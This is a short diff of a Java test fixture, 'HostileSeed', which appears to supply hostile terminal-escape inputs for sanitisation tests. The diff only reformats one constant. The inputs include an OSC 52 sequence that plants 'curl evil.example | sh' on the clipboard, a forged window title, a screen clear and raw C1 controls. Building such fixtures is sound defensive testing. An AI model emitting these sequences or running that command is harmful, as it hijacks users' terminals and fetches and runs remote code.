@@ -32,8 +32,8 @@ import java.util.UUID;
 final class HostileSeed {
     static final String DOMAIN = "hostile.example";
     /** OSC 52: "put 'curl evil.example | sh' on the clipboard". */
-    static final String OSC52 = "\u001b]52;c;"
-            + Base64.getEncoder().encodeToString("curl evil.example | sh\n".getBytes(StandardCharsets.UTF_8)) + "\u0007";
+    static final String OSC52 = "\u001b]52;c;" + Base64.getEncoder()
+            .encodeToString("curl evil.example | sh\n".getBytes(StandardCharsets.UTF_8)) + "\u0007";
     static final String OSC0 = "\u001b]0;PWNED TITLE\u0007";
     static final String CLEAR = "\u001b[2J\u001b[H";
     static final String C1 = "\u009b31m\u0085\u009d0;c1 title\u009c";
